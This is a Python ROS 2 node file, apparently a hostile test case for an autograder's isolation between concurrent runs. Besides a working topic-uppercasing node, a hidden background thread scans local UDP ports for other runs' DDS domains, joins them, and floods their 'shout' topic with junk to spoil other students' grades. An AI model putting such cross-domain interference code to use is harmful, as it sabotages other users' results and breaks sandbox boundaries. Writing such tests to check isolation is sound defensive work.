"""Hostile: looks for other gradings' ROS domains (the Fast DDS ports bound on the
machine), joins each with a participant of its own and publishes junk on their topics,
to spoil a classmate's grade; its own node works. Where runs share the network (isolation
by user, basic) its own grading is failed for it; in strict isolation there is nobody to
find."""
import os
import threading
import time

import rclpy
from rclpy.context import Context
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from rclpy.signals import SignalHandlerOptions
from std_msgs.msg import String

PORT_BASE, DOMAIN_GAIN = 7400, 250
MINE = int(os.environ.get("ROS_DOMAIN_ID", "0"))


def other_domains():
    found = set()
    for table in ("/proc/net/udp", "/proc/net/udp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            port = int(line.split()[1].rsplit(":", 1)[1], 16)
            domain = (port - PORT_BASE) // DOMAIN_GAIN
            # gradings' domains are 10 to 101 (README); higher ports may be anyone's
            if PORT_BASE <= port < 32768 and 10 <= domain <= 101 and domain != MINE:
                found.add(domain)
    return found


def spoil():
    joined = {}
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for domain in other_domains() - set(joined):
            context = Context()
            rclpy.init(context=context, domain_id=domain,  # from a thread: no handlers
                       signal_handler_options=SignalHandlerOptions.NO)
            node = rclpy.create_node("spoiler", context=context)
            joined[domain] = node.create_publisher(String, "shout", 10)
            print("JOINED DOMAIN", domain, flush=True)
        for publisher in joined.values():
            publisher.publish(String(data="SPOILED"))
        time.sleep(0.05)


class Shouter(Node):
    def __init__(self):
        super().__init__('shouter')
        self.pub = self.create_publisher(String, 'shout', 10)
        self.create_subscription(String, 'words', self.on_words, 10)

    def on_words(self, msg):
        self.pub.publish(String(data=msg.data.upper()))


def main(args=None):
    rclpy.init(args=args)
    threading.Thread(target=spoil, daemon=True).start()
    node = Shouter()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == '__main__':
    main()
